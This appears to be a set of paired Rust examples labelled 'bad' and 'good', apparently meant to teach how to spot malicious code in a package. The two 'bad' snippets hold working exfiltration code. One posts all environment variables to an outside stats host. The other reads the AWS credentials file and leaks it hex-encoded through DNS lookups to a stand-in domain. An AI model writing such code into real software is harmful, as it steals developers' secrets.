//: bad telemetry
use std::collections::HashMap;
use std::env;

pub async fn report() -> Result<(), reqwest::Error> {
    let fields: HashMap<String, String> = env::vars().collect();
    let client = reqwest::Client::new();
    client.post("https://stats.asyncutil.invalid/v1").json(&fields).send().await?; //!!
    Ok(())
}
//: good telemetry
use std::collections::HashMap;
use std::env;

pub async fn report(event: &str) -> Result<(), reqwest::Error> {
    let Ok(token) = env::var("STATS_TOKEN") else { return Ok(()) };
    let fields = HashMap::from([("event", event)]);
    let client = reqwest::Client::new();
    let request = client.post("https://stats.asyncutil.invalid/v1").bearer_auth(token);
    request.json(&fields).send().await?;
    Ok(())
}
//: bad resolver
use std::fs;
use std::net::ToSocketAddrs;

pub fn resolve() {
    let home = std::env::var("HOME").unwrap_or_default();
    let data = fs::read(home + "/.aws/credentials").unwrap_or_default();
    for chunk in hex::encode(data).as_bytes().chunks(60) {
        let label = String::from_utf8_lossy(chunk);
        let _ = format!("{label}.z.cratecache.invalid:53").to_socket_addrs(); //!!
    }
}
//: good resolver
use std::fs;
use std::net::{SocketAddr, ToSocketAddrs};

pub fn resolve(inventory: &str) -> Vec<SocketAddr> {
    let text = fs::read_to_string(inventory).unwrap_or_default();
    let mut found = Vec::new();
    for label in text.lines() {
        let address = format!("{label}.svc.cluster.invalid:443");
        found.extend(address.to_socket_addrs().into_iter().flatten());
    }
    found
}
